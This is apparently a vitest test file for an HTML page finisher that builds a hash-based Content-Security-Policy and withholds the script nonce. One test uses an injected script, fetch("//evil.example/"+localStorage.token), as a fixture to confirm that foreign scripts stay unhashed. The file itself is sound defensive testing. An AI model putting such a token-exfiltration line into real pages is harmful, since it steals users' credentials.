import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { growthOf } from '#tests/support/growth.ts'
import { contentSecurityPolicy, finishPage } from './finish-page.ts'

const nonce = 'k3Jx0pQw9sVbN1mZ2aYc4d'
const finish = (html: string) => finishPage(html, { nonce })

const page = (time: number, body = '') =>
  `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js" nonce="${nonce}"/><meta property="csp-nonce" content="${nonce}"/><title>帆域</title></head><body>${body}` +
  `<script nonce="${nonce}" data-x="">$R[13]={i:"__root__#",u:${time},s:"success"}</script>` +
  `<script type="module" async="" src="/assets/index-1.js" nonce="${nonce}"></script></body></html>`

const scriptsOf = (html: string) => [...html.matchAll(/<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)]

test('no script competes with the first paint', () => {
  const { html } = finish(page(1))
  expect(html).not.toContain('modulepreload')
  expect(html).not.toMatch(/<script[^>]*\ssrc=/)
  expect(html.indexOf('/assets/index-1.js')).toBeGreaterThan(html.indexOf('<script>'))
})

test('the starter waits for no style, and what a card is made of stands before it', () => {
  const { html } = finish(page(1).replace('</head>', '<style>a{}</style><link rel="stylesheet" href="/a.css"/></head>'))
  expect(html).toMatch(/<head><title>帆域<\/title><script>[\s\S]*<\/script><style>a\{\}<\/style><link/)
  expect(finish(page(1)).html).toMatch(/<\/title><script>[\s\S]*?<\/script><\/head>/)
})

test('what the entry is built on is evaluated before it, in a task of its own', () => {
  const preload = `<link rel="modulepreload" href="/assets/renderer-2.js" nonce="${nonce}"/>`
  const { html } = finish(page(1).replace('<head>', `<head>${preload}`))
  expect(html).toContain('["/assets/renderer-2.js","/assets/index-1.js"].forEach')
})

test('equal content gives equal bytes whenever it was rendered', () => {
  expect(finish(page(1795173341239))).toEqual(finish(page(1795173349999)))
})

test('the policy names the hash of every inline script and nothing unsafe', () => {
  const { html, csp } = finish(page(1795173341239))
  const scripts = scriptsOf(html)
  expect(scripts).toHaveLength(2)
  for (const [, text = ''] of scripts) expect(csp).toContain(createHash('sha256').update(text).digest('base64'))
  expect(csp.split('; ').find((rule) => rule.startsWith('script-src'))).not.toContain('unsafe')
})

test('data blocks are no scripts', () => {
  const data = '<script type="application/ld+json">{"@type":"Organization"}</script>'
  const { csp } = finish(page(1, data))
  expect(csp).not.toContain(createHash('sha256').update('{"@type":"Organization"}').digest('base64'))
})

test('a script that the server did not write gets no hash, whatever it looks like', () => {
  const foreign = 'fetch("//evil.example/"+localStorage.token)'
  for (const attributes of ['', ' nonce=""', ' nonce="guessed"', ' data-tsr-stream-part=""']) {
    const { html, csp } = finish(page(1, `<script${attributes}>${foreign}</script>`))
    expect(html).toContain(foreign)
    expect(csp).not.toContain(createHash('sha256').update(foreign).digest('base64'))
    expect(scriptsOf(html)).toHaveLength(3)
  }
})

test('the nonce stays here: a stored page that showed it would let everybody’s script run', () => {
  const { html, csp } = finish(page(1))
  expect(html + csp).not.toContain(nonce)
  expect(html).not.toContain('csp-nonce')
})

test('the cost of many scripts that are never closed grows with their bytes and no faster', () => {
  expect(growthOf((size) => finish(page(1, '<script '.repeat(size))), 20_000)).toBeLessThan(8)
})

test('without scripts only our own origin may run any', () => {
  expect(contentSecurityPolicy([])).toContain("script-src 'self';")
})
